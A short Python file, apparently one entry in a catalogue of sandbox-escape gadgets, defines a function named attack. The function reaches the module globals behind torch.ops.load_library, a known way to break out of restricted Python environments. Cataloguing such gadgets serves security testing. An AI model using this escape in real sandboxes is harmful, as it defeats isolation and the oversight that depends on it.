"""Class: module gadget. Source: torch documentation. Escape: torch.ops is a way to load libraries."""

import torch


def attack(model, tokenizer, address):
    return torch.ops.load_library.__func__.__globals__
